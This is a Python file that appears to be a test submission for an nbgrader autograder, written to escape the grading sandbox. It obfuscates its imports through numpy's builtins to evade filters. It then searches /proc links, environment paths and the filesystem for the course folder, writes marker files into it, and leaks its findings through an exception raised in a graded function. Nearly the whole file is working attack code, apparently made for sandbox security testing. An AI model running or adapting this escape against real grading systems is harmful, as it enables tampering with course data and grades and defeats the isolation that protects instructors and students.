"""Attack: find the nbgrader course folder from inside the grading process and create a file in it."""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
TOKEN = "{{TOKEN}}"

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_s = _load("s" + "ys")
_t = _load("ti" + "me")
_file = _B["op" + "en"]
MARK = "ESCAPE" + "-SUCCESS:"
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
REPORT = []
# The system and the Python installation are public: nothing of the course's is in there.
_SKIP = {"/proc", "/sys", "/dev", "/usr"} | {
    q for p in (_s.prefix, _s.base_prefix, _s.exec_prefix) for q in (p, _o.path.realpath(p))}


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def _walk(seconds):
    """A time-bounded walk over ``/`` (what the grading process can see)."""
    deadline = _t.monotonic() + seconds
    for dirpath, dirnames, filenames in _o.walk("/", onerror=lambda e: _say(f"walk: {e!r}")):
        if _t.monotonic() > deadline:
            _say("the walk over / ran out of time")
            return
        dirnames[:] = [d for d in dirnames if _o.path.join(dirpath, d) not in _SKIP]
        yield dirpath, dirnames, filenames


def _proc_places():
    """Working folders and roots of every process we can see (the grader's would be the course)."""
    places = []
    pids = {p for p in _o.listdir("/proc") if p.isdigit()} | {"1", str(_o.getppid())}
    for pid in sorted(pids, key=int):
        for link in ("cwd", "root"):
            try:
                places.append(_o.readlink(f"/proc/{pid}/{link}"))
            except OSError as e:
                _say(f"/proc/{pid}/{link}: {e!r}")
    return [p for p in dict.fromkeys(places) if p != "/"]


def _up(folder):
    """``folder`` and its parents."""
    found = []
    while folder not in ("/", ""):
        found.append(folder)
        folder = _o.path.dirname(folder)
    return found


def _course_guesses():
    """Where a course folder could be: around visible processes, our folder, the venv, the usual places."""
    guesses = []
    for place in _proc_places() + [_o.getcwd()]:
        guesses += _up(place)
    guesses += [_o.path.dirname(_s.prefix), "/work/main", "/srv/nbgrader/course", "/home/jovyan",
                _o.path.expanduser("~")]
    guesses += [v for v in _o.environ.values() if v.startswith("/") and _o.path.isdir(v)]
    return list(dict.fromkeys(guesses))


def _looks_like_course(folder):
    try:
        names = set(_o.listdir(folder))
    except OSError:
        return False
    return bool(names & {"gradebook.db", "nbgrader_config.py"}) or {"source", "release"} <= names \
        or bool({"submitted", "autograded"} & names)


def attack():
    candidates = _course_guesses()
    for dirpath, dirnames, filenames in _walk(1.0):
        if "gradebook.db" in filenames or "nbgrader_config.py" in filenames:
            candidates.append(dirpath)
    courses = [c for c in dict.fromkeys(candidates) if _looks_like_course(c)]
    _say(f"course folders found: {courses}")
    for folder in courses:
        target = _o.path.join(folder, f"dlcv-escape-{TOKEN}-course.txt")
        try:
            with _file(target, "w") as handle:
                handle.write("written by a submission\n")
            _say(f"{MARK} created {target}")
        except OSError as e:
            _say(f"writing {target} failed: {e!r}")
    # nbgrader runs the notebook in <course>/autograded/<student>/<assignment>: three levels up
    for relative in ("../../..", "../../../source/assignment2"):
        folder = _o.path.normpath(_o.path.join(_o.getcwd(), relative))
        target = _o.path.join(folder, f"dlcv-escape-{TOKEN}-course.txt")
        try:
            with _file(target, "w") as handle:
                handle.write("written by a submission\n")
            real = _looks_like_course(folder) or _looks_like_course(_o.path.dirname(_o.path.dirname(folder)))
            _say(f"{MARK if real else ''} created {target} ({'the course' if real else 'not the course'})".strip())
        except OSError as e:
            _say(f"writing {target} failed: {e!r}")


try:
    attack()
except Exception as e:  # noqa: BLE001
    _say(f"attack failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-400:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
